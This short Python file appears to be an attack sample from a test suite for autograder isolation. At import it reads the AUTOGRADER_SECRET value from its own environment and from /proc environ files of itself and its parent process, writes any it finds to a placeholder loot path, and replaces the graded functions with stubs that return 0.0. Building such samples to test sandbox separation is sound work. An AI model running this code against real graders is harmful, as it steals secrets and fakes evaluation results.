"""Goal: read the secret from the environment of this process and its parent.

Fires: reached
Without: separation
"""

import os

stolen = os.environ.get("AUTOGRADER_SECRET", "")
for process in ("self", os.getppid()):
    try:
        with open(f"/proc/{process}/environ") as file:
            text = file.read()
        stolen += text if "AUTOGRADER_SECRET" in text else ""
    except OSError:
        pass
if stolen:
    with open("@LOOT@/environment", "w") as file:
        file.write(stolen)

def attack(*inputs):
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
